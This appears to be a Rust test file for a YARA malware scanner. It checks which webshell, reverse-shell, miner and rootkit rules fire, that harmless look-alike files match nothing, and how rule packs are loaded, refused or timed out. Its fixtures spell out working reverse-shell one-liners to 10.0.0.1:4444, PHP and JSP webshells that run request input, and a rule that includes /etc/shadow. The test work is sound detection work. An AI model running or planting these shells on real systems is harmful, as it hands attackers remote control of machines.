//! Each rule of ours matches what it is about and not its honest neighbour; packs are used, refused by name, and bounded in time.

use super::*;

fn rules() -> YaraRules {
    let (rules, refused) = YaraRules::load(&[]);
    assert_eq!(refused, []);
    rules
}

fn matched(path: &str, content: &[u8]) -> Vec<String> {
    rules().judge(path.as_bytes(), None, content).findings.into_iter().map(|finding| finding.rule.into_owned()).collect()
}

/// An ELF file of this type (e_type of elf(5)) with these texts in it.
fn elf(kind: u8, texts: &[&str]) -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    bytes.extend([kind, 0, 0x3e, 0]);
    bytes.resize(64, 0);
    texts.iter().for_each(|text| bytes.extend([text.as_bytes(), b"\0"].concat()));
    bytes
}

#[test]
fn every_rule_says_what_it_is_about_and_matches_it() {
    let block = format!("'{}'", "QUJD".repeat(300));
    let layers = format!(
        "<?php $a = \"\\x62\\x61\\x73\\x65\\x36\\x34\"; $b = \"\\x64\\x65\\x63\\x6f\\x64\\x65\"; $c = \"\\x61\\x61\\x61\\x61\\x61\\x61\"; \
         $d = \"\\x62\\x62\\x62\\x62\\x62\\x62\"; $e($f({block}));"
    );
    let wallet = format!("4{}", "A".repeat(94));
    let dangerous: Vec<(&str, &str, Vec<u8>)> = vec![
        ("webshell_php_hidden_call", "a.php", b"<?php $f = create_function('', $_POST['x']); $f();".to_vec()),
        ("webshell_php_hidden_call", "a.php", b"<?php array_map($_GET['f'], array($_GET['c']));".to_vec()),
        ("webshell_php_hidden_call", "a.php", b"<?php preg_replace('/.*/e', $_POST['x'], '');".to_vec()),
        ("webshell_php_hidden_call", "a.php", b"<?=$_GET[0]($_GET[1])?>".to_vec()),
        ("webshell_php_layers", "a.php", b"<?php eval(gzinflate(base64_decode('abc')));".to_vec()),
        ("webshell_php_layers", "a.php", layers.into_bytes()),
        (
            "webshell_jsp_loads_class",
            "a.jsp",
            b"<%! %><% Cipher c=Cipher.getInstance(\"AES\"); new U().defineClass(c.doFinal(b.decode(request.getReader().readLine())));%>"
                .to_vec(),
        ),
        ("reverse_shell_in_a_shell_script", "x", b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n".to_vec()),
        ("reverse_shell_in_a_shell_script", "x", b"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\n".to_vec()),
        ("reverse_shell_in_a_shell_script", "x", b"nc -e /bin/sh 10.0.0.1 4444\n".to_vec()),
        (
            "reverse_shell_in_a_shell_script",
            "x",
            b"exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n".to_vec(),
        ),
        ("reverse_shell_in_a_shell_script", "x", b"exec 7<>/dev/tcp/10.0.0.1/4444\n/bin/sh <&7 >&7 2>&7\n".to_vec()),
        ("webshell_php_hidden_call", "a.php", b"<?php array_filter(array($_POST['x']), $_POST['f']);".to_vec()),
        ("reverse_shell_in_a_shell_script", "x", b"socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty,stderr,setsid\n".to_vec()),
        (
            "reverse_shell_in_a_script",
            "x.pl",
            b"socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");".to_vec(),
        ),
        (
            "reverse_shell_in_a_script",
            "x.py",
            b"s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])".to_vec(),
        ),
        ("reverse_shell_in_a_script", "x.php", b"<?php $s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");".to_vec()),
        ("miner_program", "kdevtmpfsi", elf(2, &["stratum+tcp://", "mining.subscribe", "randomx", "donate-level"])),
        (
            "miner_settings",
            "config.json",
            format!("{{\"pools\":[{{\"url\":\"pool.example:3333\",\"user\":\"{wallet}\"}}],\"donate-level\": 1}}").into_bytes(),
        ),
        ("miner_settings", "run.sh", format!("./x -o stratum+tcp://pool.example:3333 -u {wallet} -a rx/0").into_bytes()),
        ("rootkit_kernel_module", "x.ko", elf(1, &["vermagic=6.1.0", "kallsyms_lookup_name", "hide_pid", "module_hide"])),
    ];
    for (rule, path, content) in &dangerous {
        assert_eq!(matched(path, content), [*rule], "{path}: {}", String::from_utf8_lossy(content));
    }
    let scanner = rules().own.unwrap();
    for rule in scanner.rules() {
        // It asks for the symbols of a real library: tests/installed.rs has one.
        let is_tested = rule.name == "rootkit_preloaded_library" || dangerous.iter().any(|(tested, ..)| *tested == rule.name);
        assert!(is_tested, "{} is not tested", rule.name);
        let has = |name: &str| rule.metadatas.iter().any(|one| scanner.get_string_symbol(one.name) == name);
        assert!(has("description") && has("technique"), "{}", rule.name);
    }
}

#[test]
fn ordinary_files_that_look_alike_match_nothing() {
    let block = format!("'{}'", "QUJD".repeat(300));
    for (path, content) in [
        ("a.php", format!("<?php $logo = {block}; echo $_GET['name']; include 'x.php'; usort($rows, 'cmp'); ?>")),
        (
            "a.php",
            "<?php preg_replace('/a/i', $_POST['x'], ''); call_user_func($handler, $_POST['x']); $x = base64_decode(strrev($y));".into(),
        ),
        ("a.php", "<?php $ids = array_filter( $_POST['ids'] ); usort($_GET['order'], 'strcmp'); uasort($rows, $callback);".into()),
        ("a.sh", "exec 3<>/dev/tcp/127.0.0.1/9000\necho ping >&3\nread -t 2 answer <&3 || echo down >&2\n".into()),
        ("a.sh", "exec 3<>/dev/tcp/localhost/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n'\n".into()),
        ("a.sh", "nc -z 10.0.0.1 22 && nc -l -p 80 | sh -x\nssh host sh -c id\n".into()),
        ("a.sh", "socat TCP-LISTEN:80,fork TCP:10.0.0.1:80\nmkfifo /tmp/f; cat /tmp/f\n".into()),
        ("a.py", "s.connect((host, port))\nsubprocess.call(['sh', '-c', x])\n".into()),
        ("a.pl", "socket(S, PF_INET, SOCK_STREAM, 6); exec('/bin/sh -c true');".into()),
        ("a.json", "{\"url\": \"db.example:5432\", \"user\": \"app\", \"algo\": \"sha256\"}".into()),
        ("a.md", "A pool is stratum+tcp://pool.example:3333, a mining program connects to it.".into()),
    ] {
        assert_eq!(matched(path, content.as_bytes()), Vec::<String>::new(), "{content}");
    }
    // A library that reads directories; a program that reads the preload file; a driver.
    let innocent: [(u8, &[&str]); 4] = [
        (3, &["dlsym", "readdir64", "fopen64", "unlinkat"]),
        (3, &["/lib64/ld-linux-x86-64.so.2", "dlsym", "readdir64", "readdir", "fopen64", "ld.so.preload"]),
        (1, &["vermagic=6.1.0", "kallsyms_lookup_name", "getdents64"]),
        (2, &["stratum+tcp://", "hashrate"]),
    ];
    for (kind, texts) in innocent {
        assert_eq!(matched("x", &elf(kind, texts)), Vec::<String>::new(), "{texts:?}");
    }
}

#[test]
fn what_was_so_before_is_no_finding() {
    let shell = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
    let more = [&shell[..], b"# more\n"].concat();
    assert_eq!(rules().judge(b"x", Some(b"echo"), shell).findings.len(), 1);
    assert_eq!(rules().judge(b"x", Some(b""), shell).findings.len(), 1, "a new file");
    assert_eq!(rules().judge(b"x", Some(shell), &more), YaraFindings::default());
}

#[test]
fn a_pack_is_used_and_a_bad_file_is_refused_by_name_alone() {
    let file = |name: &str, text: &str| (name.to_owned(), text.to_owned());
    let files = [
        file("a.yar", "rule marker { meta: description = \"a mark\" technique = \"T1059.004\" strings: $a = \"MARK\" condition: $a }"),
        file("bad.yar", "rule good { condition: true }\nrule bad { condition: nothing_known }\n"),
        file("cut.yar", "rule cut {"),
        file("include.yar", "include \"/etc/shadow\"\nrule x { condition: true }"),
        file("global.yar", "global rule never { condition: false }\nrule after { strings: $a = \"MARK\" condition: $a }"),
        file("named.yar", "rule named { condition: filename == \"x.sh\" and filepath == \"/tmp/x.sh\" and extension == \".sh\" }"),
        file("elf.yar", "import \"elf\"\nimport \"hash\"\nrule is_elf { condition: elf.type == elf.ET_DYN and hash.md5(0, 4) != \"\" }"),
        file("long.yar", &" ".repeat(MAX_RULE_FILE + 1)),
    ];
    let (rules, refused) = YaraRules::load(&files);
    let refused: Vec<(&str, &str)> = refused.iter().map(|one| (one.file.as_str(), one.problem.as_str())).collect();
    assert_eq!(refused.iter().map(|(file, _)| *file).collect::<Vec<_>>(), ["bad.yar", "cut.yar", "include.yar", "long.yar"], "{refused:?}");
    assert!(refused[0].1.starts_with("line 2:") && refused[0].1.contains("nothing_known"), "{refused:?}");
    assert_eq!(rules.counts().1, 5);
    let found = rules.judge(b"/srv/a", None, b"a MARK here").findings;
    let said: Vec<(&str, &str, &str)> = found.iter().map(|one| (&*one.rule, &*one.technique, one.sentence.as_str())).collect();
    assert!(said.contains(&("marker", "T1059.004", "it matches the YARA rule marker of a.yar: a mark")), "{said:?}");
    assert!(!said.iter().any(|(rule, ..)| *rule == "after"), "its own global rule holds it back: {said:?}");
    let shell = rules.judge(b"/tmp/x.sh", None, b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n").findings;
    let names: Vec<&str> = shell.iter().map(|one| &*one.rule).collect();
    assert!(names.contains(&"reverse_shell_in_a_shell_script") && names.contains(&"named"), "no pack silences ours: {names:?}");
    assert_eq!(rules.judge(b"x", None, &elf(3, &[])).findings[0].rule, "is_elf");
}

#[test]
fn a_rule_that_takes_for_ever_is_given_up_and_said_so() {
    let slow = "rule slow { condition: for all i in (0..9223372036854775806) : (uint8(i % filesize) >= 0) }";
    let (rules, refused) = YaraRules::load(&[("slow.yar".to_owned(), slow.to_owned())]);
    assert_eq!(refused, []);
    let began = std::time::Instant::now();
    assert!(rules.judge(b"x", None, &[7; 1000]).gave_up);
    assert!(began.elapsed() < 5 * PATIENCE);
}

#[test]
fn a_technique_is_one() {
    let good = ["T1505", "T1505.003"].map(|text| is_technique(text.as_bytes()));
    let bad = ["", "T", "1505.003", "T1505.", "T1505.3", "T1505.003.1", "Tabcd"].map(|text| is_technique(text.as_bytes()));
    assert_eq!((good, bad), ([true; 2], [false; 7]));
}
